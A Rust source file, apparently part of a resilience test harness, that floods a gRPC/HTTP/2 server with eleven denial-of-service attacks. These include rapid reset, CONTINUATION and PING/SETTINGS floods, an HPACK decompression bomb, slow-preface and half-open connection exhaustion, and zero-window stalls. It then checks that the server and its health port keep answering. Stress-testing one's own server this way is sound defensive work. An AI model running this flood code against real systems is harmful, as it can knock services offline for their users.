//! Floods of frames, and connections that keep places.

use crate::arena::Arena;
use crate::calls::{GENERATE, LIST_PROFILES};
use crate::honest::{Target, is_serving, request};
use crate::row::{Found, Row, STRICT};
use crate::support::http2::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, OPENING, PING, PREFACE, SETTINGS, WINDOW_UPDATE,
    begun, call, frame, reset, text, whole_call,
};
use crate::support::layout::IMAGE;
use prost::Message;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

pub(crate) const ROWS: &[Row] = &[
    Row {
        name: "rapid-reset",
        what: "16 connections open and reset streams without end, half of them with whole calls",
        prepare: |_| {},
        attack: |arena| Box::pin(rapid_reset(arena)),
        rules: STRICT,
    },
    Row {
        name: "made-you-reset",
        what: "16 connections make the server reset streams: a window that grows by 0, data after the end",
        prepare: |_| {},
        attack: |arena| Box::pin(made_you_reset(arena)),
        rules: STRICT,
    },
    Row {
        name: "continuation",
        what: "16 connections send header blocks that never end, empty and large",
        prepare: |_| {},
        attack: |arena| Box::pin(continuation(arena)),
        rules: STRICT,
    },
    Row {
        name: "ping",
        what: "16 connections send PING without end, half of them without reading the answers",
        prepare: |_| {},
        attack: |arena| Box::pin(ping(arena)),
        rules: STRICT,
    },
    Row {
        name: "settings",
        what: "16 connections send SETTINGS without end, half of them without reading the answers",
        prepare: |_| {},
        attack: |arena| Box::pin(settings(arena)),
        rules: STRICT,
    },
    Row {
        name: "hpack-bomb",
        what: "16 connections send header blocks of 16 KiB that decode to 48 MB",
        prepare: |_| {},
        attack: |arena| Box::pin(hpack_bomb(arena)),
        rules: STRICT,
    },
    Row {
        name: "empty-data",
        what: "16 connections send empty DATA and WINDOW_UPDATE without end on open streams",
        prepare: |_| {},
        attack: |arena| Box::pin(empty_data(arena)),
        rules: STRICT,
    },
    Row {
        name: "slow-preface",
        what: "200 connections send the preface byte by byte",
        prepare: |_| {},
        attack: |arena| Box::pin(slow_preface(arena)),
        rules: STRICT,
    },
    Row {
        name: "half-open-calls",
        what: "8 connections hold 128 calls each with HEADERS and no message",
        prepare: |_| {},
        attack: |arena| Box::pin(half_open_calls(arena)),
        rules: STRICT,
    },
    Row {
        name: "window-0",
        what: "16 connections ask for 128 answers each and never read, by HTTP/2's window or the socket's",
        prepare: |_| {},
        attack: |arena| Box::pin(window_0(arena)),
        rules: STRICT,
    },
    Row {
        name: "idle-health-port",
        what: "100 idle connections at the health port, opened again when they are closed",
        prepare: |_| {},
        attack: |arena| Box::pin(idle_health_port(arena)),
        rules: STRICT,
    },
];

/// What a flood did.
#[derive(Default)]
struct Flood {
    connections: AtomicU64,
    bytes: AtomicU64,
}

impl Flood {
    fn found(&self) -> Found {
        let connections = self.connections.load(Ordering::Relaxed);
        let mib = self.bytes.load(Ordering::Relaxed) >> 20;
        if connections == 0 {
            return Err("no attacker could connect".to_owned());
        }
        Ok(format!("{connections} connections, {mib} MiB sent"))
    }
}

/// Connections that each send as fast as the server takes it, and connect again when the server ends them. The function makes
/// what is sent, by a number that begins at 0 with each connection. Every second connection does not read, if so asked.
async fn flood(
    arena: Arc<Arena>,
    count: usize,
    all_read: bool,
    bytes: impl Fn(usize, u32) -> Vec<u8> + Clone + Send + Sync + 'static,
) -> Found {
    let until = arena.until();
    let flood = Arc::new(Flood::default());
    let mut tasks = JoinSet::new();
    for number in 0..count {
        let (arena, flood, bytes) = (Arc::clone(&arena), Arc::clone(&flood), bytes.clone());
        let reads = all_read || number % 2 == 0;
        tasks.spawn(async move {
            while Instant::now() < until {
                let Ok(stream) = arena.connect().await else {
                    tokio::time::sleep(Duration::from_millis(10)).await;
                    continue;
                };
                flood.connections.fetch_add(1, Ordering::Relaxed);
                let sent = |count: usize| {
                    flood.bytes.fetch_add(count as u64, Ordering::Relaxed);
                };
                send(stream, until, reads, sent, |round| bytes(number, round)).await;
            }
        });
    }
    tasks.join_all().await;
    flood.found()
}

async fn send(
    mut stream: TcpStream,
    until: Instant,
    reads: bool,
    sent: impl Fn(usize),
    bytes: impl Fn(u32) -> Vec<u8>,
) {
    let (mut read, mut write) = stream.split();
    let sending = async {
        if write.write_all(OPENING).await.is_err() {
            return;
        }
        // A stream has a number below 2^31.
        for round in 0..1_000_000 {
            let bytes = bytes(round);
            if write.write_all(&bytes).await.is_err() {
                return;
            }
            sent(bytes.len());
        }
    };
    let reading = async {
        if !reads {
            return std::future::pending().await;
        }
        let mut chunk = vec![0; 64 << 10];
        while read.read(&mut chunk).await.is_ok_and(|count| count > 0) {}
    };
    let ended = async {
        tokio::select! {
            () = sending => {}
            () = reading => {}
        }
    };
    let _ = tokio::time::timeout_at(until.into(), ended).await;
}

/// A Generate for the honest image, as bytes.
fn generate() -> Vec<u8> {
    request(IMAGE, "attack").encode_to_vec()
}

/// The streams of one round, and of a round as many.
const STREAMS: u32 = 50;

fn streams(round: u32) -> impl Iterator<Item = u32> {
    (round * STREAMS..(round + 1) * STREAMS).map(|number| number * 2 + 1)
}

async fn rapid_reset(arena: Arc<Arena>) -> Found {
    let message = generate();
    flood(arena, 16, true, move |number, round| {
        let calls = streams(round).flat_map(|stream| {
            let call = if number % 2 == 0 {
                begun(stream, GENERATE)
            } else {
                whole_call(stream, GENERATE, &message)
            };
            [call, reset(stream)].concat()
        });
        calls.collect()
    })
    .await
}

async fn made_you_reset(arena: Arc<Arena>) -> Found {
    let message = generate();
    flood(arena, 16, true, move |number, round| {
        let calls = streams(round).flat_map(|stream| {
            if number % 2 == 0 {
                [begun(stream, GENERATE), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
            } else {
                [whole_call(stream, GENERATE, &message), frame(DATA, 0, stream, b"more")].concat()
            }
        });
        calls.collect()
    })
    .await
}

async fn continuation(arena: Arc<Arena>) -> Found {
    let large = [&[0, 1, b'x', 0x7f, 0x81, 0x7c][..], &[b'y'; 16_000][..]].concat();
    flood(arena, 16, true, move |number, round| {
        let begins =
            if round == 0 { frame(HEADERS, 0, 1, &call(GENERATE, &[])) } else { Vec::new() };
        let (payload, count) = if number % 2 == 0 { (&[][..], 1000) } else { (&large[..], 4) };
        [begins, frame(CONTINUATION, 0, 1, payload).repeat(count)].concat()
    })
    .await
}

async fn ping(arena: Arc<Arena>) -> Found {
    flood(arena, 16, false, |_, _| frame(PING, 0, 0, &[7; 8]).repeat(1000)).await
}

async fn settings(arena: Arc<Arena>) -> Found {
    flood(arena, 16, false, |_, round| {
        // The size of the header table, another one each time.
        let size = (round % 4096).to_be_bytes();
        frame(SETTINGS, 0, 0, &[&[0, 1], &size[..]].concat()).repeat(1000)
    })
    .await
}

async fn hpack_bomb(arena: Arc<Arena>) -> Found {
    flood(arena, 16, true, |_, round| {
        let blocks = streams(round).take(5).flat_map(|stream| {
            // A field of 4,000 bytes that goes into the table, and 12,000 times its index.
            let mut block = call(LIST_PROFILES, &[]);
            block.push(0x40);
            block.extend(text("x"));
            block.extend([0x7f, 0xa1, 0x1e]);
            block.extend([b'y'; 4000]);
            block.extend([0xbe; 12_000]);
            let (first, rest) = block.split_at(16_000);
            [frame(HEADERS, 0, stream, first), frame(CONTINUATION, END_HEADERS, stream, rest)]
                .concat()
        });
        blocks.collect()
    })
    .await
}

async fn empty_data(arena: Arc<Arena>) -> Found {
    flood(arena, 16, true, |number, round| {
        let begins = if round == 0 { begun(1, GENERATE) } else { Vec::new() };
        let frame = if number % 2 == 0 {
            frame(DATA, 0, 1, &[])
        } else {
            frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])
        };
        [begins, frame.repeat(1000)].concat()
    })
    .await
}

/// Connections that send some bytes and then nothing, each opened again when the server closes it, until the attack ends.
async fn held(
    arena: &Arc<Arena>,
    address: SocketAddr,
    count: usize,
    bytes: impl Fn(usize) -> Vec<u8>,
    reads: bool,
) -> Arc<Flood> {
    let until = arena.until();
    let flood = Arc::new(Flood::default());
    let mut tasks = JoinSet::new();
    for number in 0..count {
        let (arena, flood, bytes) = (Arc::clone(arena), Arc::clone(&flood), bytes(number));
        tasks.spawn(async move {
            while Instant::now() < until {
                let pause = tokio::time::sleep(Duration::from_millis(50));
                if let Ok(mut stream) = arena.connect_to(address).await
                    && stream.write_all(&bytes).await.is_ok()
                {
                    flood.connections.fetch_add(1, Ordering::Relaxed);
                    flood.bytes.fetch_add(bytes.len() as u64, Ordering::Relaxed);
                    let mut chunk = vec![0; 4096];
                    let closed = async {
                        if !reads {
                            return std::future::pending().await;
                        }
                        while stream.read(&mut chunk).await.is_ok_and(|count| count > 0) {}
                    };
                    let _ = tokio::time::timeout_at(until.into(), closed).await;
                }
                pause.await;
            }
        });
    }
    tasks.join_all().await;
    flood
}

async fn slow_preface(arena: Arc<Arena>) -> Found {
    let until = arena.until();
    let mut tasks = JoinSet::new();
    for _ in 0..200 {
        let arena = Arc::clone(&arena);
        tasks.spawn(async move {
            let mut sent = 0;
            let Ok(mut stream) = arena.connect().await else { return sent };
            for byte in PREFACE.chunks(1) {
                if Instant::now() >= until || stream.write_all(byte).await.is_err() {
                    break;
                }
                sent += 1;
                tokio::time::sleep(Duration::from_millis(300)).await;
            }
            sent
        });
    }
    let sent: usize = tasks.join_all().await.iter().sum();
    Ok(format!("{sent} bytes sent"))
}

pub(crate) async fn half_open_calls(arena: Arc<Arena>) -> Found {
    let calls = |_| {
        let calls = (0..128).flat_map(|number| begun(number * 2 + 1, GENERATE));
        [OPENING.to_vec(), calls.collect()].concat()
    };
    held(&arena, arena.server.tcp, 8, calls, true).await.found()
}

pub(crate) async fn window_0(arena: Arc<Arena>) -> Found {
    let message = {
        let mut docker = request(IMAGE, "attack");
        docker.profile = "docker".to_owned();
        docker.encode_to_vec()
    };
    let calls = move |number: usize| {
        // INITIAL_WINDOW_SIZE: none, or as much as there can be.
        let window: u32 = if number.is_multiple_of(2) { 0 } else { 0x7fff_ffff };
        let mut bytes = PREFACE.to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[&[0, 4], &window.to_be_bytes()[..]].concat()));
        bytes.extend(frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes()));
        bytes.extend((0..128).flat_map(|number| whole_call(number * 2 + 1, GENERATE, &message)));
        bytes
    };
    held(&arena, arena.server.tcp, 16, calls, false).await.found()
}

async fn idle_health_port(arena: Arc<Arena>) -> Found {
    let health = arena.server.health;
    let flood = held(&arena, health, 100, |_| OPENING.to_vec(), true).await;
    if is_serving(&Target::Tcp(health), "liveness").await != Some(true) {
        return Err("the health port does not answer".to_owned());
    }
    flood.found()
}
